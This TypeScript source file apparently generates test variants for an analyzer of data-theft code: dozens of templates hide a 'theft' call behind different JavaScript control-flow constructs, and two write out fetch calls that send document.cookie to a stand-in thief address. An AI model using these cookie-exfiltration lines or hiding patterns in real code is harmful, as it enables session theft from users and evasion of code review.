import { placementsOf, TO_THIEF } from "./placement.ts";

/** The value decides whether the theft runs. */
export const guards = placementsOf("guard", {
	if: ({ test, theft }) => `if (${test}) ${theft};`,
	"if-else": ({ test, theft }) => `if (!(${test})) {} else { ${theft}; }`,
	and: ({ test, theft }) => `${test} && ${theft};`,
	or: ({ test, theft }) => `!(${test}) || ${theft};`,
	ternary: ({ test, theft }) => `${test} ? ${theft} : 0;`,
	"nullish-default": ({ test, theft }) => `(${test} ? null : 0) ?? ${theft};`,
	"logical-assignment": ({ test, theft }) => `let done = ${test}; done &&= ${theft};`,
	switch: ({ value, real, theft }) =>
		real.literal === null || ["NaN", "-0"].includes(real.literal)
			? null
			: `switch (${value}) { case ${real.literal}: ${theft}; break; default: }`,
	"switch-default": ({ test, theft }) => `switch (${test}) { case false: break; default: ${theft}; }`,
	"switch-true": ({ test, theft }) => `switch (true) { case ${test}: ${theft}; }`,
	"loop-test": ({ test, theft }) => `for (let turn = 0; turn < 1 && ${test}; turn++) ${theft};`,
	while: ({ test, theft }) => `let held = ${test}; while (held) { ${theft}; held = false; }`,
	"loop-continue": ({ test, theft }) =>
		`const held = ${test}; for (const turn of [1]) { if (!held) continue; ${theft}; }`,
	"break-label": ({ test, theft }) => `out: { if (!(${test})) break out; ${theft}; }`,
	"early-return": ({ test, theft }) => `const held = ${test}; (function () { if (!held) return; ${theft}; })();`,
	"early-return-of-value": ({ value, real, theft, holes }) =>
		real.literal === null || ["NaN", "-0"].includes(real.literal)
			? null
			: `function act(${holes.word()}) { if (arguments[0] !== ${real.literal}) return; ${theft}; } act(${value});`,
	"default-parameter": ({ test, theft }) => `((way = ${theft}) => way)(${test} ? undefined : 0);`,
	"destructuring-default": ({ test, theft }) => `const { way = ${theft} } = { way: ${test} ? undefined : 0 };`,
	"catch-after-throw": ({ test, theft }) => `try { if (${test}) throw 0; } catch { ${theft}; }`,
	"catch-after-error": ({ test, theft }) => `try { (${test} ? null : {}).way; } catch (lost) { ${theft}; }`,
	"throw-before": ({ test, theft }) => `try { if (!(${test})) throw 0; ${theft}; } catch { void 0; }`,
	"optional-call": ({ test, theft }) => `(${test} ? () => ${theft} : undefined)?.();`,
	"function-in-branch": ({ test, theft }) => `let act = () => 0; if (${test}) act = () => ${theft}; act();`,
	"variable-in-branch": ({ test, theft }) => `let held = 0; if (${test}) held = 1; if (held) ${theft};`,
	"count-of-turns": ({ test, theft }) => `[0, 1].slice(0, +(${test})).forEach(() => ${theft});`,
	"filter-and-call": ({ value, real, theft }) =>
		real.literal === null ? null : `[${value}].filter((it) => Object.is(it, ${real.literal})).map(() => ${theft});`,
	"later-reaction": ({ test, theft }) => `const held = ${test}; Promise.resolve().then(() => { if (held) ${theft}; });`,
	"async-return": ({ test, theft }) =>
		`const held = ${test}; (async () => { if (!held) return; await 0; ${theft}; })();`,
	"rejected-promise": ({ test, theft }) =>
		`const held = ${test}; (async () => { if (held) throw 0; })().catch(() => ${theft});`,
	generator: ({ test, theft }) =>
		`const held = ${test}; function* steps() { if (held) yield 1; } for (const step of steps()) ${theft};`,
	getter: ({ test, theft }) => `const held = ${test}; ({ get way() { return held ? ${theft} : 0; } }).way;`,
	"class-in-branch": ({ test, theft }) =>
		`const held = ${test}; class Base { act() {} } class Taker { act() { ${theft}; } } new (held ? Taker : Base)().act();`,
	finally: ({ test, theft }) =>
		`const held = ${test}; (() => { try { return 0; } finally { if (held) ${theft}; } })();`,
	"unset-destination": ({ test }) => `let to = "/a?c="; if (${test}) to = "${TO_THIEF}"; fetch(to + document.cookie);`,
	"secret-in-branch": ({ test }) =>
		`let data = "none"; if (${test}) data = document.cookie; fetch("${TO_THIEF}" + data);`,

	"do-while": ({ test, theft }) => `do { if (!(${test})) break; ${theft}; } while (false);`,
	bits: ({ test, theft }) => `((${test}) ^ 1) || ${theft};`,
	"in-operator": ({ test, theft }) => `"way" in (${test} ? { way: 1 } : {}) && ${theft};`,
	"optional-member": ({ test, theft }) => `(${test} ? { act() { ${theft}; } } : null)?.act();`,
	"typeof-function": ({ test, theft }) =>
		`let act; if (${test}) act = () => ${theft}; if (typeof act === "function") act();`,
	"list-of-functions": ({ test, theft }) =>
		`const acts = []; if (${test}) acts.push(() => ${theft}); for (const act of acts) act();`,
	"map-of-functions": ({ test, theft }) =>
		`const acts = new Map(); if (${test}) acts.set("a", () => ${theft}); acts.forEach((act) => act());`,
	"text-hook": ({ test, theft }) => `const held = ${test}; \`\${{ toString() { if (held) ${theft}; return ""; } }}\`;`,
	"json-hook": ({ test, theft }) => `const held = ${test}; JSON.stringify({ toJSON: () => held && void ${theft} });`,
	"replace-callback": ({ test, theft }) => `"a".replace(${test} ? "a" : "b", () => ${theft});`,
	"from-length": ({ test, theft }) => `Array.from({ length: +(${test}) }, () => ${theft});`,
	comparator: ({ test, theft }) => `(${test} ? [2, 1] : [1]).sort(() => (${theft}, 0));`,
	reduce: ({ test, theft }) => `[1, 2].reduce((sum, one) => (sum ? ${theft} : one), ${test});`,
	"static-block": ({ test, theft }) => `const held = ${test}; class It { static { if (held) ${theft}; } }`,
	"field-initializer": ({ test, theft }) => `const held = ${test}; class It { a = held && ${theft}; } new It();`,
	"proxy-trap": ({ test, theft }) => `const held = ${test}; new Proxy({}, { get: () => held && ${theft} }).way;`,
	setter: ({ test, theft }) => `const it = { set way(to) { if (to) ${theft}; } }; it.way = ${test};`,
	"own-iterator": ({ test, theft }) =>
		`const held = ${test}; for (const turn of { *[Symbol.iterator]() { if (held) ${theft}; } });`,
	recursion: ({ test, theft }) =>
		`(function down(left, held) { if (left) down(left - 1, held); else if (held) ${theft}; })(3, ${test});`,
	"tagged-template": ({ test, theft }) => `((parts, held) => { if (held) ${theft}; })\`a\${${test}}b\`;`,
	rethrown: ({ test, theft }) =>
		`const held = ${test}; try { try { if (held) throw 1; } finally { 0; } } catch (thrown) { if (thrown === 1) ${theft}; }`,
	"promise-all": ({ test, theft }) => `Promise.all([${test}, 1]).then(([held]) => { if (held) ${theft}; });`,
	"promise-executor": ({ test, theft }) =>
		`const held = ${test}; new Promise((yes) => { if (held) yes(); }).then(() => ${theft});`,
	"async-iteration": ({ test, theft }) =>
		`const held = ${test}; (async () => { for await (const one of [held]) if (one) ${theft}; })();`,
	"deleted-method": ({ test, theft }) =>
		`const it = Object.create({ act() { ${theft}; } }); it.act = () => 0; if (${test}) delete it.act; it.act();`,
	"new-prototype": ({ test, theft }) =>
		`const it = {}; Object.setPrototypeOf(it, ${test} ? { act() { ${theft}; } } : { act() {} }); it.act();`,
	timer: ({ test, theft, engine }) =>
		engine === "language" ? null : `const held = ${test}; setTimeout(() => { if (held) ${theft}; }, 0);`,
	listener: ({ test, theft, engine }) =>
		engine === "language"
			? null
			: `const hub = new EventTarget(); if (${test}) hub.addEventListener("a", () => ${theft}); hub.dispatchEvent(new Event("a"));`,
	handler: ({ test, theft, engine }) =>
		engine === "language"
			? null
			: `const on = document.createElement("i"); on.onclick = ${test} ? () => ${theft} : null; on.click();`,
});
